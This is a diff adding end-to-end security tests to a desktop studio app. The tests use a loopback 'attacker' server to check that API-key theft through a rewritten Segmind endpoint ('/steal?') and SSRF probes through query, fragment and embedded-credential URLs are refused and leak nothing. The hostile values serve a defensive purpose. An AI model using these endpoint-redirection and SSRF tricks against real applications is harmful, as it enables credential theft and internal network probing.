@@ -7,7 +7,21 @@ import http from 'node:http';
 import { describe, expect, it } from 'vitest';
 import { studioSession } from '../support/studio-session';
 
-const s = studioSession();
+// Segmind points at a closed loopback port: nothing here may ever reach a real provider.
+const s = studioSession({ env: { HY3D_ENDPOINT_SEGMIND: 'http://127.0.0.1:9' } });
+
+/** A loopback "attacker" that records every request and answers with a secret of its own. */
+async function attacker() {
+  const seen: { url: string; headers: http.IncomingHttpHeaders }[] = [];
+  const server = http.createServer((req, res) => {
+    seen.push({ url: req.url ?? '', headers: req.headers });
+    res.writeHead(200, { 'content-type': 'application/json' }).end('{"status":"healthy-ish","secret":"intranet-admin-token"}');
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  const address = server.address();
+  const url = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;
+  return { url, seen, close: () => new Promise<void>((resolve) => server.close(() => resolve())) };
+}
 
 type Frame =
   | 'typed-64mib'
@@ -166,12 +180,62 @@ describe('a hostile page in Chromium', () => {
     await coreStillAnswers();
   });
 
-  // ==== LEAD: key-theft and SSRF cases go here =====================================================
-  // The endpoint rules are changing (issue 7 items 1 and 2); the cases below are the lead's to write:
-  //  - keys.set → settings.set({endpoints:{segmind:'http://127.0.0.1:<port>/steal?'}}) → keys.test:
-  //    nothing reaches the attacker's server, and the page is refused with a sentence.
-  //  - server:test against foreign URLs (query, fragment, other ports) learns nothing.
-  it.todo('key theft through the endpoint setting sends the key nowhere');
-  it.todo('server:test and keys:test leak nothing about other loopback ports (SSRF)');
-  // ==================================================================================================
+  it('key theft through the endpoint setting sends the key nowhere and is refused with a sentence', async () => {
+    const evil = await attacker();
+    try {
+      await s.page.goto(s.harness.url);
+      const key = 'SG_stolen_in_e2e_0000_1234';
+      const outcome = await s.page.evaluate(
+        async ({ key, evilUrl }) => {
+          const said = (p: Promise<unknown>) => p.then(() => 'accepted', (e: { message: string }) => e.message);
+          await window.studio.keys.set({ provider: 'segmind', key });
+          return {
+            withQuery: await said(window.studio.settings.set({ endpoints: { segmind: `${evilUrl}/steal?` } })),
+            plain: await said(window.studio.settings.set({ endpoints: { segmind: `${evilUrl}/steal` } })),
+            test: (await window.studio.keys.test({ provider: 'segmind' })).message,
+            endpoints: (await window.studio.settings.get()).endpoints,
+          };
+        },
+        { key, evilUrl: evil.url },
+      );
+      expect(outcome.withQuery).toMatch(/must not contain a query/);
+      expect(outcome.plain).toMatch(/^The Segmind address can only be changed from the command line here/);
+      expect(outcome.test).not.toMatch(/accepted/);
+      expect(outcome.endpoints).toEqual({});
+      expect(evil.seen).toEqual([]);
+    } finally {
+      await evil.close();
+    }
+  });
+
+  it('server:test learns nothing about other services: no quoted body, no query or fragment tricks, one sentence for every port', async () => {
+    const evil = await attacker();
+    try {
+      await s.page.goto(s.harness.url);
+      const outcome = await s.page.evaluate(async (evilUrl) => {
+        const said = (p: Promise<unknown>) => p.then(() => 'accepted', (e: { message: string }) => e.message);
+        const testAt = async (url: string) => {
+          const saved = await said(window.studio.settings.set({ endpoints: { local: url } }));
+          return saved === 'accepted' ? (await window.studio.server.test()).message : `refused: ${saved}`;
+        };
+        return {
+          query: await testAt(`${evilUrl}/admin?x=`),
+          fragment: await testAt(`${evilUrl}/admin#`),
+          credentials: await testAt(evilUrl.replace('http://', 'http://user:pw@')),
+          foreign: await testAt(evilUrl),
+          closed: await testAt('http://127.0.0.1:9'),
+        };
+      }, evil.url);
+      expect(outcome.query).toMatch(/^refused: .*must not contain a query/);
+      expect(outcome.fragment).toMatch(/^refused: .*must not contain a “#” part/);
+      expect(outcome.credentials).toMatch(/^refused: .*user name or password/);
+      expect(outcome.foreign).toBe(`No Hunyuan3D server answered at ${evil.url}. Check that it is running and that the address is right.`);
+      expect(outcome.closed.replace('http://127.0.0.1:9', evil.url)).toBe(outcome.foreign);
+      expect(JSON.stringify(outcome)).not.toContain('intranet-admin-token');
+      // Only the probes a Hunyuan3D check makes reached it: never the page's own path.
+      expect(evil.seen.map((r) => r.url).every((u) => u === '/health' || u.startsWith('/status/'))).toBe(true);
+    } finally {
+      await evil.close();
+    }
+  });
 });
